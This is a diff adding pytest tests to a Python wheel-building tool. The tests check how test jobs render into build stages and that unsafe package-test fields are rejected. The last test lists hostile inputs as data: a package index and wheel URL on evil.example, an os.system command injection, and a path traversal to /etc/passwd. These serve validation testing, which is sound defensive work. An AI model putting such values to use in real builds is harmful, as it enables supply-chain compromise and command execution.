@@ -185,3 +185,57 @@ def test_any_accepted_ref_is_plain(ref: str) -> None:
         return
     assert not ref.startswith("-") and ".." not in ref
     assert all(c.isascii() and (c.isalnum() or c in "._/-") for c in ref)
+
+
+def _test_job(test: dict[str, Any]) -> dict[str, Any]:
+    from tests.buildspecs.jobs import REQUESTS, TODAY
+    from wheelfoundry.catalog import load_catalog
+    from wheelfoundry.config import load_config
+    from wheelfoundry.planning import plan_request
+    from wheelfoundry.request import parse_request
+
+    raw = {**REQUESTS["extension"], "test": test}
+    plan = plan_request(parse_request(raw), load_catalog(), load_config(), today=TODAY)
+    (job,) = plan.tests
+    return {"run": {"bucket": "wf-bucket", "prefix": f"runs/r1/jobs/{job.id}/"}, **job.to_dict()}
+
+
+def test_a_test_job_fetches_the_source_and_runs_the_packages_own_tests_in_every_cell() -> None:
+    job = _test_job({"requires": ["pytest", "scipy>=1.10"], "command": ["-m", "pytest", "-q", "{package}/tests"]})
+    stages = render_stages(job)
+    assert [s.name for s in stages[:2]] == ["fetch-staged", "checkout-wf-example-ops"]
+    assert stages[1].needs == ("fetch-staged",)
+    tests = [s for s in stages if s.name.startswith("test-")]
+    assert len(tests) == 4  # torch 2.6 and 2.13, CPU and CUDA 12.6, one Python
+    for stage in tests:
+        assert "checkout-wf-example-ops" in stage.needs
+        tail = stage.argv[stage.argv.index("--project") :]
+        assert tail == [
+            "--project", "/work/src/wf-example-ops", "--package", "/work/src/wf-example-ops/ext",
+            "--test-require=pytest", "--test-require=scipy>=1.10",
+            "--test-arg=-m", "--test-arg=pytest", "--test-arg=-q", "--test-arg={package}/tests",
+        ]  # fmt: skip
+
+
+def test_a_test_job_without_package_tests_fetches_no_source() -> None:
+    stages = render_stages(_test_job({"command": ["-c", "pass"]}))
+    assert "checkout-wf-example-ops" in [s.name for s in stages]
+    job = _test_job({"command": ["-c", "pass"]})
+    job["extension"]["test_command"] = []
+    assert [s.name for s in render_stages(job)][:2] == ["fetch-staged", "env-" + job["extension"]["cells"][0]["id"]]
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("test_requires", ["--index-url=https://evil.example/simple"]),
+        ("test_requires", ["evil @ https://evil.example/evil.whl"]),
+        ("test_command", ["-c", "import os; os.system('id')"]),
+        ("test_command", ["{project}/../../etc/passwd"]),
+    ],
+)
+def test_a_package_test_field_the_schema_would_refuse_never_renders(field: str, value: list[str]) -> None:
+    job = _test_job({"command": ["-c", "pass"]})
+    job["extension"][field] = value
+    with pytest.raises(safety.UnsafeValue):
+        render_stages(job)
